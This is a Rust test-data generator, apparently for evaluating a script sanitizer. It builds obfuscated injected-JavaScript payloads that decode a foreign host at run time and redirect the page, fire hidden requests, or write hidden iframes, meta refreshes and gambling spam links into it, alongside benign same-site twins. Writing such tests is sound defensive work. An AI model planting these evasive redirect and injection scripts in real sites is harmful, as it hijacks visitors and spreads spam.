//! Run-time-built hosts crossed with the sinks and access paths the walk reached last
//! (issue 14, class 3; red team: event views, attribute writes through `call`, request
//! sinks, blob workers, location setters, markup writes, destructuring). The foreign URL
//! is decoded when the script runs (char codes with per-index arithmetic, a XOR loop, a
//! reversed string assembled in a loop, `atob` of parts, an array of parts joined), so
//! no literal names it; every sink fires unprompted, so the browser judge sees the
//! request or the navigation. Benign twin: the same sinks with same-site URLs.

use base64::Engine;

use super::rng::Rng;
use super::{Kind, Payload, Template};

const fn t(name: &'static str, kind: Kind, make: fn(&mut Rng) -> Payload) -> Template {
    Template {
        family: if matches!(kind, Kind::Benign) {
            "benign"
        } else {
            "B3"
        },
        class: if matches!(kind, Kind::Benign) { 0 } else { 3 },
        name,
        kind,
        active: true,
        make,
    }
}

pub const TEMPLATES: &[Template] = &[
    t("decoded-host-navigation-path", Kind::Script, navigation),
    t("decoded-host-request-sink", Kind::Script, request),
    t("decoded-markup-write", Kind::Script, markup),
];

pub const BENIGN: &[Template] = &[t("same-site-sink-twins", Kind::Benign, same_site)];

/// Statements that leave `{m}` holding `u` at run time, with no literal naming its host.
pub(super) fn decode(r: &mut Rng, m: &str, u: &str) -> String {
    let codes = |f: &dyn Fn(usize, u8) -> u32| -> String {
        let v: Vec<String> = u
            .bytes()
            .enumerate()
            .map(|(i, b)| f(i, b).to_string())
            .collect();
        v.join(",")
    };
    match r.below(5) {
        0 => {
            let d = 1 + r.below(6);
            format!(
                "var {m}='',{m}a=[{}];for(var i=0;i<{m}a.length;i++){m}+=String.fromCharCode({m}a[i]-i%{d});",
                codes(&|i, b| u32::from(b) + (i % d) as u32)
            )
        }
        1 => {
            let k = 1 + r.below(60) as u8;
            format!(
                "var {m}='',{m}a=[{}];for(var i=0;i<{m}a.length;i++){m}+=String.fromCharCode({m}a[i]^{k});",
                codes(&|_, b| u32::from(b ^ k))
            )
        }
        2 => {
            let rev: String = u.chars().rev().collect();
            let parts: Vec<String> = chunks(&rev, 3).iter().map(|p| format!("'{p}'")).collect();
            format!(
                "var {m}a=[{}],{m}='';for(var i=0;i<{m}a.length;i++){m}+={m}a[i];{m}={m}.split('').reverse().join('');",
                parts.join(",")
            )
        }
        3 => {
            let b64 = base64::engine::general_purpose::STANDARD.encode(u);
            let parts: Vec<String> = chunks(&b64, 4).iter().map(|p| format!("'{p}'")).collect();
            format!(
                "var {m}a=[{}],{m}b='';for(var i=0;i<{m}a.length;i++){m}b+={m}a[i];var {m}=atob({m}b);",
                parts.join(",")
            )
        }
        _ => {
            let rest = u.strip_prefix("https://").unwrap_or(u);
            let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
            let labels: Vec<String> = host.split('.').map(|l| format!("'{l}'")).collect();
            format!(
                "var {m}h=[{}],{m}s='htt';{m}s+='ps://';var {m}=[{m}s,{m}h.join('.'),'/{path}'].join('');",
                labels.join(",")
            )
        }
    }
}

fn chunks(s: &str, n: usize) -> Vec<String> {
    let c: Vec<char> = s.chars().collect();
    c.chunks(n).map(|p| p.iter().collect()).collect()
}

fn script(m: &str, js: String) -> Payload {
    Payload {
        html: format!("<script>{js}</script>"),
        planted: vec![m.to_string()],
        ..Default::default()
    }
}

/// A navigation of the top window to `{m}` through a path the walk learned last.
fn navigation(r: &mut Rng) -> Payload {
    let m = r.marker();
    let u = format!("https://{}/?from=gov", r.host());
    let build = decode(r, &m, &u);
    let go = match r.below(12) {
        0 => format!(
            "document.addEventListener('{m}e',function(e){{e.view.location={m}}});document.dispatchEvent(new UIEvent('{m}e',{{view:window}}))"
        ),
        1 => format!(
            "document.addEventListener('{m}e',function(ev){{ev.view.open({m},'_self')}});document.dispatchEvent(new UIEvent('{m}e',{{view:window}}))"
        ),
        2 => format!("document.body.ownerDocument.defaultView.location={m}"),
        3 => format!("Object.getOwnPropertyDescriptor(location,'href').set.call(location,{m})"),
        4 => format!("window.__lookupSetter__('location').call(window,{m})"),
        5 => format!("with(location){{href={m}}}"),
        6 => format!("({{href:location.href}}={{href:{m}}})"),
        7 => format!("[location.href]=[{m}]"),
        8 => format!(
            "var {m}a=document.createElement('a');Element.prototype.setAttribute.call({m}a,'href',{m});document.body.appendChild({m}a);{m}a.click()"
        ),
        9 => format!(
            "document.body.appendChild(Object.assign(document.createElement('a'),{{href:{m}}})).click()"
        ),
        10 => format!("const {m}g=location.replace.bind(location);{m}g({m})"),
        _ => format!("location?.assign?.(`${{{m}}}`)"),
    };
    script(&m, format!("{build}{go};"))
}

/// A request to `{m}` through a sink the walk learned last.
fn request(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let u = format!("https://{host}/{m}.png");
    let build = decode(r, &m, &u);
    let go = match r.below(11) {
        0 => format!(
            "var {m}i=document.createElement('img');{m}i.srcset={m}+' 1x';document.body.appendChild({m}i)"
        ),
        1 => format!("document.body.style.backgroundImage='url('+{m}+')'"),
        2 => format!("document.body.style.cssText='background:url(\"'+{m}+'\")'"),
        3 => format!("document.body.style.setProperty('background-image','url('+{m}+')')"),
        4 => format!("new Audio({m}).load()"),
        5 => format!(
            "var {m}i=document.createElement('img');{m}i.setAttributeNS(null,'src',{m});document.body.appendChild({m}i)"
        ),
        6 => format!(
            "var {m}l=document.createElement('link');{m}l.rel='prefetch';{m}l.href={m};document.head.appendChild({m}l)"
        ),
        7 => format!("new EventSource({m})"),
        8 => format!(
            "new Worker(URL.createObjectURL(new Blob(['fetch(\"'+{m}+'\")'],{{type:'text/javascript'}})))"
        ),
        9 => format!(
            "var {m}b=new Blob(['importScripts(\"'+{m}+'\")']);new Worker(URL.createObjectURL({m}b))"
        ),
        _ => format!("Object.assign(document.body.style,{{backgroundImage:'url('+{m}+')'}})"),
    };
    script(&m, format!("{build}{go};"))
}

/// Markup carrying the foreign host, written through a markup sink.
fn markup(r: &mut Rng) -> Payload {
    let m = r.marker();
    let host = r.host();
    let u = format!("https://{host}/?from=gov");
    let build = decode(r, &m, &u);
    let html = match r.below(4) {
        0 => format!("'<meta http-equiv=\"refresh\" content=\"0;url='+{m}+'\">'"),
        1 => format!("'<iframe width=0 height=0 src=\"'+{m}+'\"></iframe>'"),
        2 => format!("'<img alt=\"\" src=\"'+{m}+'\">'"),
        _ => format!("'<a id=\"{m}x\" href=\"'+{m}+'\">nhà cái uy tín</a>'"),
    };
    let go = match r.below(5) {
        0 => format!("document.body.insertAdjacentHTML('beforeend',{html})"),
        1 => format!("document.body.innerHTML+={html}"),
        2 => {
            format!("document.body.append(document.createRange().createContextualFragment({html}))")
        }
        3 => format!(
            "var {m}d=new DOMParser().parseFromString({html},'text/html');document.body.append(...{m}d.body.childNodes)"
        ),
        _ => format!("document.write({html})"),
    };
    script(&m, format!("{build}{go};"))
}

/// The same sinks with same-site or allowed URLs: must keep every byte.
fn same_site(r: &mut Rng) -> Payload {
    let js = match r.below(10) {
        0 => {
            "document.addEventListener('click',function(e){if(e.target.dataset.lang)e.view.location.href='/'+encodeURIComponent(e.target.dataset.lang)+'/'})"
        }
        1 => {
            "document.querySelectorAll('img[data-srcset]').forEach(function(i){i.srcset=i.dataset.srcset})"
        }
        2 => {
            "document.querySelectorAll('[data-bg]').forEach(function(el){el.style.backgroundImage='url('+el.dataset.bg+')'})"
        }
        3 => {
            "var b=document.getElementById('banner');b.style.backgroundImage='url(/anh/nen-'+(new Date().getMonth()+1)+'.jpg)'"
        }
        4 => {
            "var a=document.createElement('a');a.setAttribute('href','/tai-lieu/'+encodeURIComponent('bao cao.pdf'));a.textContent='Tải về';document.body.appendChild(a)"
        }
        5 => "var w=new Worker('/js/tim-kiem-worker.js')",
        6 => {
            "document.body.insertAdjacentHTML('beforeend','<a href=\"/tin-tuc/'+encodeURIComponent('moi')+'\">Tin mới</a>')"
        }
        7 => {
            "window.addEventListener('load',function(){document.querySelectorAll('script[data-src]').forEach(function(s){var n=document.createElement('script');n.src=s.getAttribute('data-src');document.body.appendChild(n)})})"
        }
        8 => {
            "var i=document.createElement('img');i.setAttributeNS(null,'src','/anh/logo.png');document.body.appendChild(i)"
        }
        _ => "document.body.style.cssText='margin:0;background:url(/anh/nen.png) no-repeat'",
    };
    Payload {
        html: format!(
            "<img id=\"banner\" alt=\"\" data-srcset=\"/anh/1.jpg 1x, /anh/1@2x.jpg 2x\"><div data-bg=\"/anh/nen.jpg\"></div><script>{js}</script>"
        ),
        ..Default::default()
    }
}
